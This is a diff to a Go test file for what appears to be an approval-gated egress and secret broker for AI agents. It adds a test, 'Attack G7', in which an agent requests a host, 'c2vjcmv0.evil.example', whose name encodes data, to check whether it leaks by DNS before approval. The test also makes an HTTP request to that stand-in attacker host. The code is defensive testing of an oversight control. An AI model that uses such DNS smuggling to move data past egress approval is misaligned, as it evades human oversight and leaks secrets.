@@ -9,6 +9,7 @@ import (
 	"errors"
 	"net"
 	"net/http"
+	"net/url"
 	"os"
 	"path/filepath"
 	"strconv"
@@ -431,4 +432,44 @@ func TestASuppliedCredential(t *testing.T) {
 			t.Errorf("got %s, want %s", line, kind)
 		}
 	}
+}
+
+// Attack G7: the name that is asked for is looked up by whoever takes the request down, and
+// what the agent wrote into it leaves by DNS though nothing was granted. Only a request that
+// is allowed has its name looked up.
+func TestAttackG7_AskingLooksNothingUp(t *testing.T) {
+	r := supervised(t)
+	agent := r.agent(t)
+	id := r.ask(t, agent, "c2vjcmv0.evil.example")
+	call(t, agent, "request_secret", object{"host": "c2vjcmv0.evil.example", "name": "K", "scheme": "bearer", "why": "x"}, nil)
+	call(t, agent, "check_request", object{"id": id, "wait_seconds": 0}, nil)
+	call(t, agent, "list_requests", object{}, nil)
+	call(t, agent, "list_policy", object{}, nil)
+	if _, err := r.operate().Requests(t.Context(), -1); err != nil {
+		t.Fatal(err)
+	}
+	r.approve(t, id, requests.Scope{})
+	if strings.Contains(r.stderr.String(), lookedUp) {
+		t.Error("a name was looked up before anything was requested of it")
+	}
+	r.approve(t, r.askHTTP(t, agent, "c2vjcmv0.evil.example"), requests.Scope{})
+	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"}), DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
+		return new(net.Dialer).DialContext(ctx, "unix", filepath.Join(r.dir, "egress.sock"))
+	}}}
+	defer client.CloseIdleConnections()
+	if response, err := client.Get("http://c2vjcmv0.evil.example/"); err == nil {
+		_ = response.Body.Close()
+	}
+	if !strings.Contains(r.stderr.String(), lookedUp) {
+		t.Error("a lookup goes unseen: this test proves nothing")
+	}
+}
+
+func (r *running) askHTTP(t *testing.T, agent *mcp.ClientSession, host string) string {
+	t.Helper()
+	var asked requests.Request
+	if text, failed := call(t, agent, "request_egress", object{"host": host, "port": 80, "protocol": "http", "why": "x"}, &asked); failed {
+		t.Fatal(text)
+	}
+	return asked.ID
 }
